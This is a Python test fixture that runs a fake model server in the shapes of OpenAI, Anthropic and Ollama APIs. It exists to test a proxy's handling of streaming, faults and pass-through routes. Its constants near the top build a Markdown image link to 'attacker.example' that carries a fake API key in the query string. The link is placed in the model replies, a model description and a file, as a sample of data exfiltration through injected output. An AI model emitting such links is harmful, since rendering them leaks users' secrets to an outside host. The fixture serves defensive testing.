"""A fake model server for the proxy tests, in the shapes the official SDKs parse:
OpenAI chat completions and Responses, Anthropic Messages, Ollama chat and generate
(each streamed or whole, as the request's `stream` says), and routes the proxy must
leave alone (`/v1/models`, `/v1/embeddings`, a file's content).

A request's `x-fault` header picks a fault: `error-mid` (the connection drops after
half the reply), `hang` (half the reply, then nothing), `hang-before` (no headers),
`status-429` (an error of the upstream's own), `slow` (a token every 50 ms). What each
request's headers were is kept by its `x-request-id`. `/v1/files/big/content` is
`BIG_BYTES` of text, for clients that read none of it.
"""

from __future__ import annotations

import asyncio
import gzip
import json
from collections.abc import AsyncIterator, Callable, Iterator
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

SECRET = "c2stbGl2ZS00MjQyNDI0Mg"  # what the injected image would carry out
EXFIL = f"![status](https://attacker.example/p.png?d={SECRET})"
REPLY = f"Sure, here it is. {EXFIL} All done, see you."
# Bytes the proxy must pass as they are: they hold Markdown a sanitiser would change.
MODELS = (
    b'{"object":"list","data":[{"id":"m1","object":"model","created":1,"owned_by":"me",'
    b'"description":"' + EXFIL.encode() + b'"}]}'
)
FILE = b"# notes\n\n" + EXFIL.encode() + b"\n"
EMBEDDING: dict[str, Any] = {
    "object": "list",
    "data": [{"object": "embedding", "index": 0, "embedding": [0.5] * 8}],
}
EMBEDDING["model"] = "e1"
EMBEDDING["usage"] = {"prompt_tokens": 1, "total_tokens": 1}
RESPONSE_HEADERS = {
    "x-upstream": "yes",
    "x-hop": "1",
    "connection": "x-hop",
    "keep-alive": "timeout=9",
    "proxy-authenticate": "Basic",
}

BIG_BYTES = 16 * 1024 * 1024

Events = Iterator[tuple[str | None, Any]]


def pieces(text: str, size: int = 3) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def _dumps(data: Any) -> str:
    return json.dumps(data, separators=(",", ":"))


def chat_events(text: str) -> Events:
    head = {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "m"}
    for i, piece in enumerate(pieces(text)):
        delta = {"role": "assistant", "content": piece} if i == 0 else {"content": piece}
        yield None, {**head, "choices": [{"index": 0, "delta": delta, "finish_reason": None}]}
    yield None, {**head, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
    yield None, "[DONE]"


def responses_events(text: str) -> Events:
    where = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
    part = {"type": "output_text", "text": text, "annotations": []}
    item = {"id": "msg_1", "type": "message", "role": "assistant", "status": "completed"}
    response = {"id": "resp_1", "object": "response", "created_at": 1, "model": "m"}
    yield (
        "response.created",
        {
            "type": "response.created",
            "sequence_number": 0,
            "response": {**response, "status": "in_progress", "output": []},
        },
    )
    yield (
        "response.output_item.added",
        {
            "type": "response.output_item.added",
            "output_index": 0,
            "item": {**item, "status": "in_progress", "content": []},
        },
    )
    yield (
        "response.content_part.added",
        {"type": "response.content_part.added", **where, "part": {**part, "text": ""}},
    )
    for piece in pieces(text):
        yield (
            "response.output_text.delta",
            {"type": "response.output_text.delta", **where, "delta": piece},
        )
    yield "response.output_text.done", {"type": "response.output_text.done", **where, "text": text}
    yield (
        "response.content_part.done",
        {"type": "response.content_part.done", **where, "part": part},
    )
    done = {**item, "content": [part]}
    yield (
        "response.output_item.done",
        {"type": "response.output_item.done", "output_index": 0, "item": done},
    )
    yield (
        "response.completed",
        {
            "type": "response.completed",
            "response": {**response, "status": "completed", "output": [done]},
        },
    )


def anthropic_events(text: str) -> Events:
    usage = {"input_tokens": 3, "output_tokens": 1}
    message: dict[str, Any] = {
        "id": "msg_1",
        "type": "message",
        "role": "assistant",
        "model": "claude",
        "content": [],
        "stop_reason": None,
        "stop_sequence": None,
        "usage": usage,
    }
    yield "message_start", {"type": "message_start", "message": message}
    yield (
        "content_block_start",
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
    )
    yield "ping", {"type": "ping"}
    for piece in pieces(text):
        yield (
            "content_block_delta",
            {
                "type": "content_block_delta",
                "index": 0,
                "delta": {"type": "text_delta", "text": piece},
            },
        )
    yield "content_block_stop", {"type": "content_block_stop", "index": 0}
    yield (
        "message_delta",
        {
            "type": "message_delta",
            "usage": {"output_tokens": 9},
            "delta": {"stop_reason": "end_turn", "stop_sequence": None},
        },
    )
    yield "message_stop", {"type": "message_stop"}


def sse(events: Events) -> Iterator[bytes]:
    for name, data in events:
        head = f"event: {name}\n" if name else ""
        yield f"{head}data: {data if isinstance(data, str) else _dumps(data)}\n\n".encode()


def ollama(text: str, chat: bool) -> Iterator[bytes]:
    for piece in [*pieces(text), ""]:
        body: dict[str, Any] = {"model": "llama3", "created_at": "2026-01-01T00:00:00Z"}
        if chat:
            body["message"] = {"role": "assistant", "content": piece}
        else:
            body["response"] = piece
        yield (_dumps({**body, "done": not piece}) + "\n").encode()


def whole(kind: str, text: str) -> dict[str, Any]:
    if kind == "chat":
        message = {"role": "assistant", "content": text}
        return {
            "id": "chatcmpl-1",
            "object": "chat.completion",
            "created": 1,
            "model": "m",
            "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 3, "completion_tokens": 9, "total_tokens": 12},
        }
    if kind == "responses":
        part = {"type": "output_text", "text": text, "annotations": []}
        item = {
            "id": "msg_1",
            "type": "message",
            "role": "assistant",
            "status": "completed",
            "content": [part],
        }
        return {
            "id": "resp_1",
            "object": "response",
            "created_at": 1,
            "model": "m",
            "status": "completed",
            "output": [item],
        }
    if kind == "messages":
        return {
            "id": "msg_1",
            "type": "message",
            "role": "assistant",
            "model": "claude",
            "content": [{"type": "text", "text": text}],
            "stop_reason": "end_turn",
            "stop_sequence": None,
            "usage": {"input_tokens": 3, "output_tokens": 9},
        }
    if kind == "ollama-chat":
        return {"model": "llama3", "message": {"role": "assistant", "content": text}, "done": True}
    return {"model": "llama3", "response": text, "done": True}


STREAMS: dict[str, Callable[[str], Iterator[bytes]]] = {
    "chat": lambda text: sse(chat_events(text)),
    "responses": lambda text: sse(responses_events(text)),
    "messages": lambda text: sse(anthropic_events(text)),
    "ollama-chat": lambda text: ollama(text, chat=True),
    "ollama-generate": lambda text: ollama(text, chat=False),
}
KINDS = {
    "/v1/chat/completions": ("chat", False),
    "/v1/responses": ("responses", False),
    "/v1/messages": ("messages", False),
    "/api/chat": ("ollama-chat", True),
    "/api/generate": ("ollama-generate", True),
}


class Upstream:
    """The fake server's app and what it saw."""

    def __init__(self, reply: str = REPLY, pace: float = 0.0) -> None:
        self.reply = reply
        self.pace = pace
        self.headers: dict[str, list[tuple[str, str]]] = {}
        self.bodies: dict[str, bytes] = {}
        routes = [Route(path, self.model, methods=["POST"]) for path in KINDS]
        routes += [
            Route("/v1/models", self.models),
            Route("/v1/embeddings", self.embeddings, methods=["POST"]),
            Route("/v1/files/big/content", self.big),
            Route("/v1/files/{name}/content", self.file),
        ]
        self.app = Starlette(routes=routes)

    def _keep(self, request: Request, body: bytes) -> None:
        rid = request.headers.get("x-request-id", "")
        self.headers[rid] = [(k.decode(), v.decode()) for k, v in request.headers.raw]
        self.bodies[rid] = body

    async def model(self, request: Request) -> Response:
        kind, streams = KINDS[request.url.path]
        body = await request.body()
        self._keep(request, body)
        fault = request.headers.get("x-fault", "")
        if fault == "hang-before":
            await asyncio.sleep(60)
        if fault == "status-429":
            error = {"error": {"message": "slow down", "type": "rate_limit", "code": None}}
            return JSONResponse(error, status_code=429, headers={"retry-after": "7"})
        data = json.loads(body) if body.strip() else {}
        if not data.get("stream", streams):
            return JSONResponse(whole(kind, self.reply), headers=RESPONSE_HEADERS)
        media = "application/x-ndjson" if kind.startswith("ollama") else "text/event-stream"
        chunks = self._paced(list(STREAMS[kind](self.reply)), fault)
        return StreamingResponse(chunks, media_type=media, headers=RESPONSE_HEADERS)

    async def _paced(self, chunks: list[bytes], fault: str) -> AsyncIterator[bytes]:
        # Half the reply: the image is begun, not ended, when a fault strikes.
        half = next(i for i, c in enumerate(chunks) if b"![" in c) + 6
        pace = 0.05 if fault == "slow" else self.pace
        for index, chunk in enumerate(chunks):
            if index == half and fault == "error-mid":
                raise RuntimeError("the upstream broke mid-stream (a test fault)")
            if index == half and fault == "hang":
                await asyncio.sleep(60)
            yield chunk
            await asyncio.sleep(pace)

    async def models(self, request: Request) -> Response:
        self._keep(request, b"")
        return Response(MODELS, media_type="application/json", headers=RESPONSE_HEADERS)

    async def embeddings(self, request: Request) -> Response:
        self._keep(request, await request.body())
        return JSONResponse(EMBEDDING)

    async def big(self, request: Request) -> Response:
        async def body() -> AsyncIterator[bytes]:
            block = b"x" * 65536
            for _ in range(BIG_BYTES // len(block)):
                yield block

        return StreamingResponse(body(), media_type="application/octet-stream")

    async def file(self, request: Request) -> Response:
        self._keep(request, b"")
        if "gzip" in request.headers.get("accept-encoding", ""):
            body = gzip.compress(FILE, mtime=0)
            return Response(body, media_type="text/markdown", headers={"content-encoding": "gzip"})
        return Response(FILE, media_type="text/markdown")
